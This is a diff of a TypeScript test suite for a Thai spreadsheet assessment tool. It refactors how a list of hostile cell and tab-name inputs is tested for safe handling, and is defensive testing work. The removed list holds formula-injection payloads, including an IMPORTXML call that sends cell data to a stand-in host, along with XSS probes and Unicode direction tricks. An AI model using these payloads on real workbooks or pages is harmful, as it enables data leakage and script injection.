@@ -8,46 +8,9 @@ import type { Framework } from '../../src/domain/framework/node';
 import { leavesOf } from '../../src/domain/framework/tree';
 import { type Intake, readScores } from '../../src/domain/intake/read';
 import { th } from '../../src/text/th';
+import { hostileGroups, hostileNames } from '../hostileTexts';
 import { alertsOf, typed } from './built';
 import { analyseBuilt, ownTab, SOURCE, valuesOf } from './workbooks';
-
-const HOSTILE: readonly string[] = [
-  '=HYPERLINK("http://example.com/","กดที่นี่")',
-  '=IMPORTXML("http://example.com/?"&A1,"//a")',
-  '=1+1',
-  '=',
-  '+1',
-  '-1',
-  '-',
-  '+HYPERLINK("http://example.com/")',
-  '@SUM(A1:A9)',
-  "'x",
-  "''x",
-  "'=1+1",
-  '<script>alert(1)</script>',
-  '<img src=x onerror="alert(1)">',
-  '&lt;b&gt;',
-  '\u202eกลับ\u202c',
-  'ก\u200bข\u200d',
-  'ม'.repeat(10_000),
-  '=ม'.repeat(5_000),
-  '👩‍👩‍👧 ดี',
-  'บรรทัดแรก\nบรรทัดสอง',
-  '\t=1+1',
-  '1-2',
-  '1/10/2565',
-  '00123',
-  '1,000,000',
-  '50%',
-  '1e5',
-  'TRUE',
-  'FALSE',
-  '#N/A',
-  '#REF!',
-  '{{x}}',
-  'Infinity',
-  'null',
-];
 
 const framework = frameworkOf(2565) as Framework;
 const ITEMS = leavesOf(framework.root).filter(({ id }) => id.startsWith('O'));
@@ -86,8 +49,13 @@ function findingsIn(workbook: Workbook): Map<unknown, unknown> {
   return new Map(rows.filter(row => row[code] !== '').map(row => [row[code], row[finding]]));
 }
 
-describe.each(['keep', 'formulas'] as const)('where plain-text cells %s what begins with =', textCells => {
-  const workbook = hostile(HOSTILE, [...HOSTILE].reverse());
+const WORLDS = ['keep', 'formulas'] as const;
+const GROUPS = hostileGroups(ITEMS.length);
+
+describe.each(
+  WORLDS.flatMap(textCells => GROUPS.map((texts, index) => ({ textCells, texts, group: index + 1 }))),
+)('where plain-text cells $textCells what begins with =, texts of group $group', ({ textCells, texts }) => {
+  const workbook = hostile(texts, [...texts].reverse());
   workbook.textCells = textCells;
   const before = fingerprint(new Officer(workbook).tab(SOURCE));
   const first = analyseBuilt(workbook);
@@ -95,12 +63,11 @@ describe.each(['keep', 'formulas'] as const)('where plain-text cells %s what beg
 
   test('the analysis ends well', () => {
     expect([first.outcome, first.ui.alerts[0]?.title]).toEqual(['done', th.run.finished.title]);
-    expect(HOSTILE.length).toBeLessThanOrEqual(ITEMS.length);
   });
 
   test('the plan shows every comment as it was read, and nothing else', () => {
     const findings = findingsIn(workbook);
-    expect(intake.comments.size).toBeGreaterThan(25);
+    expect(intake.comments.size).toBeGreaterThan(texts.length * 0.7);
     for (const { id } of ITEMS) expect([id, findings.get(id)]).toEqual([id, intake.comments.get(id) ?? '']);
   });
 
@@ -130,7 +97,7 @@ describe.each(['keep', 'formulas'] as const)('where plain-text cells %s what beg
   test('comments that change places come out in their new places', () => {
     const officer = new Officer(workbook);
     const source = officer.tab(SOURCE);
-    HOSTILE.forEach((text, index) => {
+    texts.forEach((text, index) => {
       source.put(3 + index, 4, { value: text });
     });
     officer.openTab(source);
@@ -140,19 +107,18 @@ describe.each(['keep', 'formulas'] as const)('where plain-text cells %s what beg
     for (const { id } of ITEMS) expect([id, findings.get(id)]).toEqual([id, comments.get(id) ?? '']);
     expect(formulasIn(workbook)).toEqual([]);
   });
+});
 
-  test.each([...HOSTILE.filter(text => text.length <= 100 && !text.includes('\n'))])(
-    'a score tab named %j is named as it is',
-    name => {
-      const one = hostile([], []);
-      one.textCells = textCells;
-      new Officer(one).renameTab(new Officer(one).tab(SOURCE), name);
-      const { ui } = analyseBuilt(one);
-      expect(ui.alerts[0]?.title).toBe(th.run.finished.title);
-      expect(valuesOf(ownTab(one, 'summary')).flat()).toContain(name);
-      expect(formulasIn(one)).toEqual([]);
-    },
-  );
+describe.each(WORLDS)('where plain-text cells %s what begins with =', textCells => {
+  test.each(hostileNames(100))('a score tab named %j is named as it is', name => {
+    const one = hostile([], []);
+    one.textCells = textCells;
+    new Officer(one).renameTab(new Officer(one).tab(SOURCE), name);
+    const { ui } = analyseBuilt(one);
+    expect(ui.alerts[0]?.title).toBe(th.run.finished.title);
+    expect(valuesOf(ownTab(one, 'summary')).flat()).toContain(name);
+    expect(formulasIn(one)).toEqual([]);
+  });
 });
 
 test.each([
